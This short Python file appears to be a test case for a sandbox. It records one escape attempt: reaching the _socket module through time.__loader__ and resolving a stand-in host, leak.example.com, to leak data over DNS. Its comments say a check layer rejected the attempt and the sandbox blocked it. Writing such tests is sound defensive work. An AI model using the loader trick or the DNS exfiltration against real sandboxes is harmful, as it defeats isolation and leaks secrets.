# Tries: resolve a name (DNS exfiltration: the secret as a subdomain).
# Check layer: rejected ("__loader__").
# Sandbox layer: no /etc/resolv.conf, no network, sockets refused -> failed.
import time
_socket = time.__loader__.load_module("_socket")
print("ESCAPED" + ":", _socket.getaddrinfo("leak.example.com", 53))
